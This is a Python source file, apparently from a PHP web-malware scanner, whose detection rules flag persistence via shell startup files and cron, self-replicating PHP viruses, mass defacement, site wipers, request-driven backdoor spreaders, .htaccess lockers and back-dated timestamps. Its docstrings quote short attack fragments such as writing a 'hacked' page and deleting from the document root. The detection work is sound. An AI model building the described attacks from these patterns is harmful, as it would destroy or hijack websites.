_STARTUP_WRITES = (b"file_put_contents", b"fopen", b"copy", b"rename", b"symlink", b"link")


_STARTUP_LITERALS = 5000  # literals of a file looked at
_STARTUP_WORDS = pattern_words(_STARTUP_FILE)  # every match holds one of them


def startup_candidates(ctx: Ctx) -> Iterable[int]:
    """The indexes, in order, of the literals (of the first :data:`_STARTUP_LITERALS`) whose
    value may match :data:`_STARTUP_FILE` (every literal's value was made and searched)."""
    return literals_matching(ctx, _STARTUP_WORDS, _STARTUP_LITERALS)


# foreach (<list> as [$k =>] $item): the list a loop hands a variable from
_LOOP_HEAD = tight(
    rb"foreach\s*\(([^;{]{1,400}?)\s+as\s+(?:\$" + NAME_P + rb"\s*=>\s*)?\$(" + NAME_P
    + rb")\s*\)"
)


@per_file("loop-heads")
def _loop_heads(ctx: Ctx) -> list[tuple[int, bytes, bytes]]:
    """(end, list, item) of each ``foreach`` head of the code (:data:`_LOOP_HEAD`), found
    once per file: a pattern compiled for each variable was built for every write looked at."""
    return [(m.end(), m.group(1), m.group(2)) for m in _LOOP_HEAD.finditer(ctx.code)]


@feature("startup_planted")
def _startup_planted(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that writes files names a file the shell or the system runs by itself
    (``~/.bashrc``, ``~/.profile``, an autostart entry, a user service, ``/etc/cron.d/``,
    ``/etc/rc.local``): persistence that runs the operator's command at the next login or
    boot, outliving the cleaning of the site. A web application never edits them."""
    writes = calls_to(ctx, _STARTUP_WRITES, 50)
    if not writes:
        return None
    named = {
        i
        for i in startup_candidates(ctx)
        if len(ctx.lx.raw_strings[i]) <= 200
        and _STARTUP_FILE.search(ctx.lx.value(i).strip().lower())
    }
    if not named:
        return None
    code = ctx.code
    for start, args in writes:
        parts = top_args(args)
        if not parts:
            continue
        # the destination (copy/rename/link: the second path), its variables' values and
        # the lists a loop hands them from
        second = code.startswith((b"copy", b"rename", b"symlink", b"link"), start)
        dest = parts[1] if second and len(parts) > 1 else parts[0]
        texts = _expr_texts(ctx, interpolated(ctx, dest, keep_plain=True), start)
        for var in VAR.findall(b" ".join(texts))[:8]:
            heads = [head for end, head, item in _loop_heads(ctx) if item == var and end <= start]
            texts += heads[:3]
        for t in texts:
            for p in PLACEHOLDER.findall(t):
                if int(p) in named:
                    return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# the script's own source read into a value: file_get_contents(__FILE__), file(__FILE__),
# fopen(__FILE__, 'r') (not highlight_file/show_source, which print it)
_OWN_SOURCE = tight(
    rb"(?<![\w$>:])(?:file_get_contents|file|fopen)\s*\(\s*@?\s*"
    rb"(?:__file__|\$_server\s*\[\s*\x01\d+\x01\s*\])\s*[,)]"
)
# run from a terminal: a developer's tool, not a page
_CLI_GUARD = (b"$argv", b"php_sapi_name", b"php_sapi", b"stdin", b"getopt")
# foreach (<list> as [$k =>] $item) {
_FOREACH_ITEM = tight(
    rb"foreach\s*\(\s*([^;{]{1,200}?)\s+as\s+(?:\$[\w\x80-\xff]+\s*=>\s*)?&?\s*\$([\w\x80-\xff]+)\s*\)\s*\{"
)
# the walked file itself given as the destination: fopen($f, 'w'), file_put_contents($f,
# ...), rename($tmp, $f), copy($tmp, $f)
_REPLACES = (b"fopen", b"file_put_contents", b"rename", b"copy")
_WRITE_MODES = (b"w", b"a", b"x", b"c")


def _replaces_item(ctx: Ctx, body: bytes, item: bytes) -> int:
    """The offset in ``body`` of a call that writes over the file ``$item`` names, or -1."""
    value = ctx.lx.value
    for at, args in find_calls(body, _REPLACES, 40):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        if body.startswith((b"rename", b"copy"), at):
            dest = parts[1]
        elif body.startswith(b"fopen", at):
            mode = PLACEHOLDER.fullmatch(parts[1].strip())
            if mode is None or value(int(mode.group(1))).strip()[:1] not in _WRITE_MODES:
                continue
            dest = parts[0]
        else:
            dest = parts[0]
        dest = dest.strip().lstrip(b"@")
        if VAR.fullmatch(dest) is not None and dest[1:] == item:
            return at
    return -1


def _walk_loops(ctx: Ctx, *, helpers: bool = False) -> Iterator[tuple[re.Match[bytes], bytes]]:
    """The ``foreach`` loops (their head's match and their ``{...}`` body) over what a walk
    of the folders found: the list is a walk (glob(...), a recursive iterator, scandir) or a
    variable set to one before the loop. With ``helpers``, also a list the script's own
    walking function made and handed on (:func:`_walk_made`)."""
    code = ctx.code
    for m in itertools.islice(_FOREACH_ITEM.finditer(code), 40):
        listed = m.group(1)
        walked = any(w in listed for w in _WALKS)
        lv = VAR.fullmatch(listed.strip())
        if not walked and lv is not None:  # $files = glob('*.php'); foreach ($files as $f)
            walked = any(
                any(w in am.group(1) for w in _WALKS)
                for _, am in var_assigns(code[: m.start()], lv.group(1), TAIL_RHS, 5)
            )
        if not walked and helpers:
            walked = _walk_made(ctx, listed, m.start(), 3)
        if walked:
            yield m, braced(code, m.end() - 1)


@per_file("walker-functions")
def _walker_functions(ctx: Ctx) -> tuple[bytes, ...]:
    """The script's functions whose body walks the folders (readdir, scandir, glob, a
    directory iterator): helpers that list the files a loop then goes over."""
    return tuple(
        name
        for name, body in itertools.islice(function_bodies(ctx).items(), 100)
        if any(w in body for w in _WALKS)
    )


@per_file("function-spans")
def _function_spans(ctx: Ctx) -> list[tuple[int, int, bytes, list[bytes]]]:
    """(body start, body end, name, parameter names) of the script's first 100 functions."""
    code = ctx.code
    spans: list[tuple[int, int, bytes, list[bytes]]] = []
    if ctx.first(b"function") < 0:
        return spans
    for m in itertools.islice(FUNC_DEF.finditer(code, ctx.first(b"function")), 100):
        body = braced(code, m.end() - 1)
        params = [p.group(1) for p in VAR.finditer(code, m.start(), m.end())]
        spans.append((m.end() - 1, m.end() - 1 + len(body), m.group(1), params))
    return spans


def _walk_made(ctx: Ctx, expr: bytes, before: int, depth: int) -> bool:
    """``expr`` (at ``before`` in the code) is what a walk of the folders found, handed on:
    a call of one of the script's walking functions (:func:`_walker_functions`), or, up to
    ``depth`` steps back, a variable set to such a value before ``before`` (split or
    filtered: ``explode("\\n", $list)``), or a parameter of the function ``expr`` is in that
    its callers give such a value (``infect(search(__DIR__))``). A virus keeps the walk in a
    helper of its own and the writes in another."""
    if any(w in expr for w in _WALKS):
        return True
    if b"(" in expr and any(_calls_named(expr, name) for name in _walker_functions(ctx)):
        return True
    if depth <= 0:
        return False
    code = ctx.code
    for var in VAR.findall(expr)[:4]:
        for _, am in var_assigns(code[:before], var, TAIL_RHS, 5):
            if _walk_made(ctx, am.group(1), before, depth - 1):
                return True
        for start, end, name, params in _function_spans(ctx):
            if not start < before < end or var not in params:
                continue
            k = params.index(var)
            for at, args in calls_to(ctx, (name,), 10):
                if start <= at < end:
                    continue  # the function calling itself
                parts = top_args(args)
                if k < len(parts) and _walk_made(ctx, parts[k], at, depth - 1):
                    return True
    return False


# bytes before a name that make it part of a longer name, a variable or a member
_NAME_OR_MEMBER = frozenset(b"abcdefghijklmnopqrstuvwxyz0123456789_$>:\\") | frozenset(
    range(0x80, 0x100)
)


def _calls_named(expr: bytes, name: bytes) -> bool:
    """``expr`` calls the function ``name`` (not a method, nor a longer name)."""
    at = expr.find(name)
    while at >= 0:
        prev = expr[at - 1] if at else 32
        if prev not in _NAME_OR_MEMBER and expr[at + len(name) :].lstrip().startswith(b"("):
            return True
        at = expr.find(name, at + 1)
    return False


@feature("self_replicating")
def _self_replicating(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that reads its own source (``file_get_contents(__FILE__)``) and, in a loop
    over PHP files a walk of the folders found (glob('*.php'), scandir, a recursive
    iterator), writes over each of them (``fopen($f, 'w')``, ``file_put_contents($f, ...)``,
    or a copy renamed over it: ``rename("$f.tmp", $f)``): a virus that puts its code into
    every script of the site. Tools that rewrite a project's files run from a terminal
    (``$argv``, ``PHP_SAPI``) and have no use for their own source."""
    if not has_any(ctx, _WALKS) or has_any(ctx, _CLI_GUARD):
        return None
    code = ctx.code
    # every match starts with "file" (file_get_contents too) or "fopen": tried only there
    own = word_searcher(_OWN_SOURCE, code, (b"file", b"fopen"), ctx.first)(0)
    if own is None:
        return None
    value = ctx.lx.value
    literals = PLACEHOLDER.findall(code)[:2000]
    if not any(_PHP_EXT.search(value(int(i)).lower()) is not None for i in literals):
        return None  # the walk picks no PHP file by name
    for m, body in _walk_loops(ctx, helpers=True):
        at = _replaces_item(ctx, body, m.group(2))
        if at >= 0:
            start = m.end() - 1 + at
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# the walked entry at the end of a path: $item, $dir . '/' . $item, $item->getPathname()
_ENDS_WITH_ITEM = tight(
    rb"\$([\w\x80-\xff]+)\s*(?:->\s*(?:getpathname|getrealpath|__tostring)\s*\(\s*\))?\s*\Z"
)
# a value made only of literals glued together
_LITERALS_ONLY = tight(rb"\s*\x01\d+\x01(?:\s*\.\s*\x01\d+\x01)*\s*\Z")


def _names_item(ctx: Ctx, body: bytes, dest: bytes, item: bytes) -> bool:
    """``dest`` (a path expression in the loop's ``body``) names the walked entry ``$item``
    itself, or a variable the body set to it (``$old = $f->getPathname();``)."""
    dest = dest.strip().lstrip(b"@")
    m = _ENDS_WITH_ITEM.search(dest)
    if m is None:
        return False
    if m.group(1) == item:
        return True
    if VAR.fullmatch(dest) is None:
        return False
    for _, am in var_assigns(body, m.group(1), TAIL_RHS, 3):
        e = _ENDS_WITH_ITEM.search(am.group(1).strip().lstrip(b"@"))
        if e is not None and e.group(1) == item:
            return True
    return False


@feature("walk_overwrite")
def _walk_overwrite(ctx: Ctx, rule: Rule) -> Hit | None:
    """Every file a walk of the folders finds written over with one text of the script's own:
    empty (the file wiped) or a page or script (``file_put_contents($f->getPathname(),
    '<?php echo "<h1>hacked</h1>"; ?>')``): a mass defacement or a wiper, the site's code
    replaced by the attacker's message. Installers create files next to the ones they find
    (``$dir . '/index.html'``); developer tools run from a terminal; a log rotator empties
    each log after it read or copied its text."""
    if not has_any(ctx, _WALKS) or has_any(ctx, _CLI_GUARD):
        return None
    value = ctx.lx.value
    for m, body in _walk_loops(ctx):
        for at, args in find_calls(body, (b"file_put_contents",), 20):
            parts = top_args(args)
            if len(parts) < 2 or not _LITERALS_ONLY.match(parts[1]):
                continue
            text = b"".join(value(int(i)) for i in PLACEHOLDER.findall(parts[1]))
            if text.strip() and b"<" not in text:
                continue  # data of the script's own (a reset to '{}'), not a page
            if not _names_item(ctx, body, parts[0], m.group(2)):
                continue
            if not text.strip() and _text_kept(body[:at], m.group(2)):
                continue  # emptied after its text was kept: a log rotator's copy-truncate
            start = m.end() - 1 + at
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# a site's front page by its name: index.php, index.html, default.htm, home.html
_INDEX_PAGE = tight(rb"(?:^|/)(?:index|default|home)\.(?:php\d?|s?html?)$")
# a test that the file is missing: the write only creates it
_MISSING_TEST = tight(rb"!\s*@?\s*(?:file_exists|is_file)\s*\(")
_ARRAY_LITERAL = tight(rb"\s*(?:array\s*\(|\[)\s*\x01")
_TAIL_VAR = tight(rb"\$(" + NAME_P + rb")[\s)]*\Z")


def _recursive_walkers(ctx: Ctx) -> dict[bytes, bytes]:
    """Functions of the file's own that list a folder (readdir, scandir, glob...) and call
    themselves, and the functions those call: name -> body. What they write, they write in
    every folder the walk finds."""
    bodies = function_bodies(ctx)
    walkers = {
        n: b for n, b in bodies.items()
        if prefiltered_search(_DIR_LISTS, b) is not None and find_calls(b, (n,), 1)
    }
    for body in list(walkers.values())[:10]:
        for n in [n for n in bodies if n not in walkers][:200]:
            if find_calls(body, (n,), 1):
                walkers[n] = bodies[n]
    return walkers


def _index_target(ctx: Ctx, body: bytes, dest: bytes) -> bool:
    """The path ``dest`` (a write's, in ``body``) names a site's front page: its last literal
    (or that of the expression a variable ``dest`` was set to in ``body``) ends with
    ``index.php``/``index.html``..., or it ends with a loop's item taken from a list of
    such names (``foreach (['index.html', 'index.php'] as $f)``)."""
    value = ctx.lx.value
    texts = [dest]
    v = VAR.fullmatch(dest.strip())
    if v is not None:
        texts += [am.group(1) for _, am in var_assigns(body, v.group(1), TAIL_RHS, 3)]
    for text in texts:
        lits = PLACEHOLDER.findall(text)
        if lits and _INDEX_PAGE.search(value(int(lits[-1])).strip().lower()):
            return True
        tail = _TAIL_VAR.search(text)
        if tail is None:
            continue
        listed = _foreach_list_of(body, tail.group(1))
        if listed is None:
            continue
        lv = VAR.fullmatch(listed.strip())
        exprs = [listed] if lv is None else [
            am.group(1) for _, am in var_assigns(body, lv.group(1), TAIL_RHS, 3)]
        for expr in exprs:
            if _ARRAY_LITERAL.match(expr) and any(
                _INDEX_PAGE.search(value(int(i)).strip().lower())
                for i in PLACEHOLDER.findall(expr)[:20]
            ):
                return True
    return False


def _foreach_list_of(body: bytes, item: bytes) -> bytes | None:
    """The list a ``foreach`` of ``body`` takes ``$item`` from."""
    for m in itertools.islice(_FOREACH_ITEM.finditer(body), 20):
        if m.group(2) == item:
            return m.group(1)
    return None


def _outside_text(ctx: Ctx, body: bytes, content: bytes) -> bool:
    """``content`` (what a write in ``body`` writes) is one text from outside ``body``: a
    variable ``body`` never sets (a parameter handed down the walk, a global, one set
    before the loop) or sets only as a plain copy of one (``$content = $page;``), or a
    ``$GLOBALS`` element, and neither a text of the script's own (literals, or a variable
    set to literals only: the empty page a protector writes) nor one the walk builds (a
    folder's listing)."""
    content = content.strip()
    if content.startswith(b"$globals"):
        return True
    v = VAR.fullmatch(content)
    if v is None:
        return False
    name = v.group(1)
    for _ in range(3):
        given = var_assigns(body, name, TAIL_RHS, 3)
        if not given:
            break
        rhs = given[0][1].group(1).strip()
        if any(am.group(1).strip() != rhs for _, am in given[1:]):
            return False  # set to different things: built, not handed on
        if rhs.startswith(b"$globals"):
            return True
        c = VAR.fullmatch(rhs)
        if c is None:
            return False
        name = c.group(1)
    else:
        return False
    # set outside: not to the script's own literals
    outer = var_assigns(ctx.code, name, TAIL_RHS, 3)
    return not (outer and all(_LITERALS_ONLY.match(am.group(1)) for _, am in outer))


@feature("walk_index_replace")
def _walk_index_replace(ctx: Ctx, rule: Rule) -> Hit | None:
    """A mass defacement: in a walk of the folders (a function of the script's own that lists
    a folder and calls itself, or one it calls; a loop over a walk), the front page of every
    folder found (``$dir . '/index.php'``, or each name of a list ``['index.html',
    'index.php']``) written over with one text from outside (:func:`_outside_text`: a
    parameter handed down the walk, a global, a variable set before the loop to a download
    or what the request gave), not only where the page is missing, in a script driven by
    the request. A protector that puts an empty index page into folders that lack one
    writes its own literal; a generator writes each folder's own page, built in the walk."""
    if has_any(ctx, _CLI_GUARD) or not request_input_in_code(ctx):
        return None
    bodies = list(_recursive_walkers(ctx).values())[:20]
    bodies += [body for _m, body in itertools.islice(_walk_loops(ctx), 20)]
    for body in bodies:
        for at, args in find_calls(body, (b"file_put_contents",), 20):
            parts = top_args(args)
            if len(parts) < 2 or not _outside_text(ctx, body, parts[1]):
                continue
            if _MISSING_TEST.search(body, max(0, at - 200), at) is not None:
                continue  # only a missing page created
            if not _index_target(ctx, body, parts[0]):
                continue
            start = find(ctx.code, body) + at
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
        for at, args in find_calls(body, (b"copy",), 20):
            # a page the visitor sent copied over each front page: copy($_FILES[...], ...)
            parts = top_args(args)
            if len(parts) < 2 or not _sent_file(ctx, parts[0]):
                continue
            dest = parts[1].strip()
            if PLACEHOLDER.fullmatch(dest) is not None:  # "$dir/$i"
                dest = interpolated(ctx, dest).strip()
            if not _index_target(ctx, body, dest):
                continue
            start = ctx.code.find(body) + at
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# the last part of a path: a variable or a request element after a '/' (a literal, or
# DIRECTORY_SEPARATOR) glued on with '.'
_JOINED_TAIL = tight(
    rb"(?:\x01\d+\x01|directory_separator)\s*\.\s*@?\s*"
    rb"(\$_(?:get|post|request|cookie)\s*\[\s*\x01\d+\x01\s*\]|\$" + NAME_P + rb")[\s)]*\Z"
)
# "$dir/$name": a double-quoted path whose last part is a variable
_QUOTED_TAIL = tight(rb"/\s*\$(" + NAME_P + rb")\s*\Z")


def _request_value(ctx: Ctx, body: bytes, expr: bytes, req: set[bytes]) -> bool:
    """``expr`` is what the request gave: request input itself, or a variable the taint pass
    holds for it (a parameter a call of the file's own hands request input to, one set from
    it before a loop), or one ``body`` sets to such a variable."""
    expr = expr.strip().lstrip(b"@")
    if UIN_RE.search(expr) is not None:
        return True
    v = VAR.fullmatch(expr)
    if v is None:
        return False
    name = v.group(1)
    for _ in range(3):
        if name in req:
            return True
        given = var_assigns(body, name, TAIL_RHS, 3)
        if len(given) != 1:
            return False
        rhs = given[0][1].group(1).strip()
        c = VAR.fullmatch(rhs)
        if c is None:  # $name = $_POST['n'];
            return UIN_RE.match(rhs.lstrip(b"@")) is not None
        name = c.group(1)
    return False


def _request_named(ctx: Ctx, body: bytes, dest: bytes, req: set[bytes]) -> bool:
    """The path ``dest`` (of a write in ``body``) is a folder with a file name the request
    gave glued after a '/' (``$sub . '/' . $name``, ``"$dir/$name"``), or a variable ``body``
    sets to such a path."""
    texts = [dest.strip()]
    v = VAR.fullmatch(dest.strip())
    if v is not None:
        texts += [am.group(1).strip() for _, am in var_assigns(body, v.group(1), TAIL_RHS, 3)]
    for text in texts:
        joined = _JOINED_TAIL.search(text)
        if joined is not None and _request_value(ctx, body, joined.group(1), req):
            return True
        lit = PLACEHOLDER.fullmatch(text)
        if lit is not None:
            quoted = _QUOTED_TAIL.search(interpolated(ctx, text).strip())
            if quoted is not None and _request_value(ctx, body, b"$" + quoted.group(1), req):
                return True
    return False


@feature("walk_request_drop")
def _walk_request_drop(ctx: Ctx, rule: Rule) -> Hit | None:
    """A spreader: in a walk of the folders (a function of the script's own that lists a
    folder and calls itself, or one it calls; a loop over a walk), a file whose name the
    request gave written into every folder found with a text the request gave too
    (``$lokasi = $dirc . '/' . $namafile; file_put_contents($lokasi, $isi_script)`` in a
    walker called with ``$_POST['d_file'], $_POST['script']``): the visitor plants a page
    or a backdoor of their choosing everywhere. A protector writes a name and text of its
    own (``.htaccess``, an empty index page); a search-and-replace tool writes each file
    back under its own name; a generator writes text it built in the walk; a command-line
    tool takes no request."""
    if has_any(ctx, _CLI_GUARD) or not request_input_in_code(ctx):
        return None
    req = taint(ctx)[0]
    bodies = list(_recursive_walkers(ctx).values())[:20]
    bodies += [body for _m, body in itertools.islice(_walk_loops(ctx), 20)]
    for body in bodies:
        for at, args in find_calls(body, (b"file_put_contents",), 20):
            parts = top_args(args)
            if len(parts) < 2 or not _request_value(ctx, body, parts[1], req):
                continue
            if not _request_named(ctx, body, parts[0], req):
                continue
            start = find(ctx.code, body) + at
            if site_session_gated(ctx, start):
                continue  # the site's own admin page
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# a folder's server settings: the web server's per-folder file or PHP's
_SETTINGS_NAMES = (b".htaccess", b".user.ini")


def _names_settings(ctx: Ctx, body: bytes, expr: bytes) -> bool:
    """The path ``expr`` (written in ``body``) names a folder's .htaccess or .user.ini: in
    a literal of its own or of the expression a variable ``expr`` was set to in ``body``."""
    value = ctx.lx.value
    texts = [expr]
    v = VAR.fullmatch(expr.strip())
    if v is not None:
        texts += [am.group(1) for _, am in var_assigns(body, v.group(1), TAIL_RHS, 3)]
    return any(
        value(int(i)).lower().rstrip().endswith(_SETTINGS_NAMES)
        for t in texts
        for i in PLACEHOLDER.findall(t)[-2:]
    )


def _walk_step_bodies(ctx: Ctx) -> list[bytes]:
    """The code a walk of the folders runs for each folder: the walk's own loops and
    walkers (:func:`_walk_bodies`) and the bodies of the script's own functions they call
    (``foreach ($it as $d) lock($d)``)."""
    bodies = list(_walk_bodies(ctx))
    own = function_bodies(ctx)
    for body in list(bodies):
        for name in [n for n in own if own[n] not in bodies][:200]:
            if find_calls(body, (name,), 1):
                bodies.append(own[name])
    return bodies


def _settings_written(ctx: Ctx, body: bytes, before: int) -> set[bytes]:
    """The .htaccess/.user.ini paths (as :func:`_norm` writes them) a write in ``body``
    before offset ``before`` puts text into: file_put_contents, fopen for writing, or the
    destination of a copy or rename."""
    out: set[bytes] = set()
    for at, args in find_calls(body, (b"file_put_contents", b"fopen", b"copy", b"rename"), 20):
        if at >= before:
            break
        parts = top_args(args)
        if body.startswith(b"fopen", at):
            lit = PLACEHOLDER.fullmatch(parts[1].strip()) if len(parts) >= 2 else None
            mode = ctx.lx.value(int(lit.group(1))) if lit is not None else b""
            if mode[:1] not in _WRITE_MODES:
                continue
            dest = parts[0]
        elif body.startswith(b"file_put_contents", at):
            dest = parts[0] if parts else b""
        else:
            dest = parts[1] if len(parts) >= 2 else b""
        if dest and _names_settings(ctx, body, dest):
            out.add(_norm(ctx, dest))
    return out


@feature("walk_settings_lock")
def _walk_settings_lock(ctx: Ctx, rule: Rule) -> Hit | None:
    """A locker: in a walk of the folders (a recursive walker of the script's own, a loop
    over a walk, or a function of the script's own either calls for each folder), a
    .htaccess or .user.ini written and then made read-only with chmod (0444, 0555): the
    server settings of every folder replaced (deny the site's own PHP, serve only the
    attacker's page) and locked so the site owner cannot edit them back. A guard that
    writes a deny-all .htaccess into every upload folder leaves it writable; a security
    plugin that locks the one .htaccess of the site root does not walk."""
    text = string_text(ctx)
    if all(find(text, n) < 0 for n in _SETTINGS_NAMES):
        return None
    for body in _walk_step_bodies(ctx)[:60]:
        for at, args in find_calls(body, (b"chmod",), 20):
            parts = top_args(args)
            start = find(ctx.code, body) + at
            if len(parts) < 2 or not _read_only_mode(ctx, parts[1], start):
                continue
            if _norm(ctx, parts[0]) not in _settings_written(ctx, body, at):
                continue
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


def _sent_file(ctx: Ctx, expr: bytes) -> bool:
    """``expr`` is a path or address the request gives (an upload's temporary file, a
    posted URL), or a variable set to one."""
    if UIN_RE.search(expr) is not None:
        return True
    v = VAR.fullmatch(expr.strip())
    given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 4) if v is not None else []
    return any(UIN_RE.search(m.group(1)) is not None for _, m in given)


# what keeps a file's text: a copy, a write (or an archive) of what was read, the text shown
_KEEPS = rb"(?:file_put_contents|fwrite|fputs|gzwrite|gzencode|gzcompress|addfromstring|error_log)"
_READS = rb"(?:file_get_contents|file)"


def _text_kept(before: bytes, item: bytes) -> bool:
    """Whether the code ``before`` a file ``$item`` is emptied keeps its text: copies or
    renames it (``copy($f, $f . '.1')``), shows it (readfile), writes or archives what it
    read (``gzwrite($gz, file_get_contents($f))``, or a variable read so and written after).
    A read whose text is dropped (``$x = file_get_contents($f);`` and nothing more) keeps
    nothing: a wiper's."""
    v = re.escape(item)
    if re.search(rb"(?<![\w$>:])(?:copy|rename|readfile)\s*\(\s*\$" + v + rb"\b", before):
        return True
    if re.search(_KEEPS + rb"\s*\([^;]{0,300}?" + _READS + rb"\s*\(\s*\$" + v + rb"\b", before):
        return True
    for r in itertools.islice(re.finditer(
        rb"\$(" + NAME_P + rb")\s*=(?![=>])\s*@?\s*" + _READS + rb"\s*\(\s*\$" + v + rb"\b", before
    ), 5):
        held = re.escape(r.group(1))
        if re.search(_KEEPS + rb"\s*\([^;]{0,300}?\$" + held + rb"\b", before[r.end() :]):
            return True
    return False


# ------------------------------------------------------------------------ site wipers
_DIR_LISTS = tight(
    rb"(?<![\w$>:])(?:scandir|readdir|glob|opendir)\s*\(|recursivedirectoryiterator"
)
# the whole site or the script's own folder, or a folder above it: what a wiper empties
_SITE_ROOT = tight(
    rb"\s*@?(?:\$_server\s*\[\s*\x01(\d+)\x01\s*\](?:\s*\.\s*\x01(\d+)\x01)?|getcwd\s*\(\s*\)|"
    rb"__dir__|dirname\s*\(\s*__file__\s*\)|\x01(\d+)\x01|\$(" + NAME_P + rb"))\s*"
)


def _recursive_deleters(ctx: Ctx) -> dict[bytes, tuple[int, int]]:
    """Functions of the file's own that walk a folder, delete each file and call themselves
    on each folder (``function rrmdir($d) { foreach (scandir($d) ...) is_dir(...) ? rrmdir(...)
    : unlink(...); }``): name -> the span of the definition."""
    out: dict[bytes, tuple[int, int]] = {}
    code = ctx.code
    for m in itertools.islice(FUNC_DEF.finditer(code, max(0, ctx.first(b"function"))), 100):
        name = m.group(1)
        body = braced(code, m.end() - 1)
        if find(body, b"unlink") < 0 or _DIR_LISTS.search(body) is None or name in out:
            continue
        if find_calls(body, (name,), 1):
            out[name] = (m.start(), m.end() - 1 + len(body))
    return out


# '/', '..', '../..' or a web root above the script ('../../public_html')
_WIPED_ABOVE = tight(
    rb"/|(?:\.\./?)+|(?:\.\./)+(?:public_html|www|htdocs|httpdocs|html|wwwroot|web)/?"
)


def _root_target(ctx: Ctx, arg: bytes, at: int) -> bool:
    """``arg`` names the web root, the file system's root, the folder above the script as a
    whole (``'..'``) or a web root above it (``'../../public_html'``), or a named folder next
    to it (``'../app'``) outside the site's admin pages. Not the script's own folder
    (``__DIR__``: a plugin's uninstaller, a cache's purge script) nor ``'../install'`` removed
    by the admin after setup (:func:`site_session_gated`); ``at``: the call."""
    m = _SITE_ROOT.fullmatch(arg)
    if m is None:
        return False
    value = ctx.lx.value
    if m.group(4) is not None:  # a variable set once: $root = $_SERVER['DOCUMENT_ROOT']
        given = var_assigns(ctx.code, m.group(4), TAIL_RHS, 2)
        if len(given) != 1 or VAR.fullmatch(given[0][1].group(1).strip()) is not None:
            return False
        return _root_target(ctx, given[0][1].group(1), at)
    if m.group(1) is not None:  # $_SERVER['DOCUMENT_ROOT'], maybe with '/' glued on
        if value(int(m.group(1))).strip().lower() != b"document_root":
            return False
        return m.group(2) is None or value(int(m.group(2))).strip() in (b"", b"/")
    if m.group(3) is not None:
        lit = value(int(m.group(3))).strip().lower()
        if _WIPED_ABOVE.fullmatch(lit) is not None:
            return True
        # a folder next to the script's ('../app'), unless only the site's admin can ask
        # (an installer's folder removed from the dashboard after setup)
        return lit.startswith(b"../") and not site_session_gated(ctx, at)
    return False  # __DIR__, getcwd(): an uninstaller or a cache's own purge script


@feature("site_wiper")
def _site_wiper(ctx: Ctx, rule: Rule) -> Hit | None:
    """A function of the file's own that deletes a folder's files and calls itself on its
    folders, called on the web root, the script's folder as a whole or a folder above it
    (``rrmdir($_SERVER['DOCUMENT_ROOT'])``, ``confirm('../controllers')``): the site erased.
    A cleaner empties a cache or upload folder of its own; an uninstaller its own folder by
    name, from the admin's screen."""
    if ctx.first(b"function") < 0:
        return None
    deleters = _recursive_deleters(ctx)
    if not deleters:
        return None
    code = ctx.code
    for start, args in find_calls(code, tuple(deleters), 20):
        if any(a <= start < b for a, b in deleters.values()):
            continue  # the function calling itself
        parts = top_args(args)
        if parts and _root_target(ctx, parts[0], start):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# ------------------------------------------------------------------- back-dated trees
# a time written in the script: a date (strtotime('2024-12-07 01:56:17')), mktime() of
# numbers, or a Unix time of nine or ten digits; not time(), not now plus a delay
_FIXED_TIME = tight(
    rb"\s*@?\s*(?:strtotime\s*\(\s*\x01\d+\x01\s*\)|mktime\s*\(\s*[\d\s,]{1,60}\)|"
    rb"\d{9,10})\s*"
)
# where a walk of the whole site starts: the current folder, the script's own, the web
# root, a folder above ('.', './', '..', '../..', __DIR__, getcwd(), DOCUMENT_ROOT)
_TREE_ROOT = tight(
    rb"\s*@?(?:\$_server\s*\[\s*\x01(\d+)\x01\s*\]|getcwd\s*\(\s*\)|__dir__|"
    rb"dirname\s*\(\s*__file__\s*\)|\x01(\d+)\x01|\$(" + NAME_P + rb"))\s*"
)
_TREE_ROOT_LITERAL = tight(rb"\.{1,2}/?|(?:\.\./)+\.\.?/?|/")


def _tree_root(ctx: Ctx, arg: bytes, depth: int = 2) -> bool:
    """``arg`` names the site as a whole: the current or the script's own folder, the web
    root or a folder above, directly or in a variable set once to one."""
    m = _TREE_ROOT.fullmatch(arg)
    if m is None:
        return False
    value = ctx.lx.value
    if m.group(1) is not None:
        return value(int(m.group(1))).strip().lower() == b"document_root"
    if m.group(2) is not None:
        return _TREE_ROOT_LITERAL.fullmatch(value(int(m.group(2))).strip()) is not None
    if m.group(3) is not None:
        given = var_assigns(ctx.code, m.group(3), TAIL_RHS, 2)
        return depth > 0 and len(given) == 1 and _tree_root(ctx, given[0][1].group(1), depth - 1)
    return True


def _fixed_time(ctx: Ctx, when: bytes, depth: int = 2) -> bool:
    """``when`` is a time written in the script, directly or in a variable set to one."""
    if _FIXED_TIME.fullmatch(when) is not None:
        return True
    v = VAR.fullmatch(when.strip())
    if v is None or depth == 0:
        return False
    given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)
    return bool(given) and all(_fixed_time(ctx, m.group(1), depth - 1) for _, m in given)


def _param_time(
    ctx: Ctx, when: bytes, name: bytes, params: re.Match[bytes] | None, calls: list[bytes]
) -> bool:
    """``when`` is a parameter of the function ``name`` (``params``: its parameter list, as
    :func:`function_params` finds it) that the calls from outside it (their arguments,
    ``calls``) give a written time."""
    v = VAR.fullmatch(when.strip())
    if v is None or params is None:
        return False
    names = [VAR.search(p) for p in split_top(params.group(1), b",")]
    index = [i for i, p in enumerate(names) if p is not None and p.group(1) == v.group(1)]
    if not index:
        return False
    outside = [top_args(args) for args in calls]
    return bool(outside) and all(
        len(parts) > index[0] and _fixed_time(ctx, parts[index[0]]) for parts in outside
    )


@feature("tree_backdated")
def _tree_backdated(ctx: Ctx, rule: Rule) -> Hit | None:
    """Every file and folder of the site given one time written in the script: touch() with
    a date (``strtotime('2024-12-07 01:56:17')``, mktime(), a Unix time) inside a function
    of the file's own that lists a folder and calls itself on each folder, called on the
    site as a whole (``'.'``, __DIR__, the web root), or in a loop over a recursive
    iterator of it: whatever was planted looks as old as the site. A cache or build step
